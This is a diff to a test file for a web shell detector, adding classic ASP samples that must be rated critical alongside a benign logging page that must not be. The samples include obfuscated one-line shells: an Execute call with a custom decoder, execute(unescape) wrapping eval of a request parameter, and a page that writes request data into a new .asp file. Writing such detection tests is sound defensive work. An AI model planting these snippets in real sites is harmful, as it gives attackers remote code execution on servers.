@@ -57,6 +57,15 @@ describe('classic ASP', () => {
       'ADODB.Stream saving an upload where the visitor says',
       '<% Set s = Server.CreateObject("ADODB.Stream")\ns.Type = 1: s.Open: s.Write Request.BinaryRead(Request.TotalBytes)\ns.SaveToFile Server.MapPath(Request.QueryString("f")), 2 %>',
     ],
+    [
+      'Execute of code the page decodes with a function of its own',
+      '<%Execute(DeAsc("%119%136%115")):Function DeAsc(Str):Str=Split(Str,"%"):For I=1 To Ubound(Str):DeAsc=DeAsc&Chr(Str(I)-18):Next:End Function%>',
+    ],
+    ['Execute of an unescaped string', '<%execute(unescape("eval%20request%28%22a%22%29"))%>'],
+    [
+      'the request written into a page it names',
+      '<% if request("t")<>"" then\nbody=request("t")\nset fso=Server.CreateObject("Scripting.FileSystemObject")\nset f=fso.CreateTextFile(Server.MapPath("up1oad.asp"))\nf.Write(body)\nend if %>',
+    ],
   ])('calls %s a web shell', (_, text) => {
     expect(judge('/opt/x.asp', text)).toMatchObject({
       severity: 'critical',
@@ -70,6 +79,10 @@ describe('classic ASP', () => {
       '<% n = Request.Form("name")\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fs.OpenTextFile(Server.MapPath("log.txt"), 8, True)\nf.WriteLine n %>',
     ],
     ['a page evaluating a constant', '<% x = Request("id")\nResponse.Write Eval("1 + 2") %>'],
+    [
+      'a page echoing a field and saving a text log',
+      '<% n = Request("n")\nResponse.Write(n)\nSet fs = CreateObject("Scripting.FileSystemObject")\nSet f = fs.CreateTextFile(Server.MapPath("visits.txt"))\nf.Write(n) %>',
+    ],
     [
       'a page running a fixed program',
       '<% Set sh = CreateObject("WScript.Shell")\nsh.Run "cmd /c cleanup.bat", 0\nResponse.Write Request("id") %>',
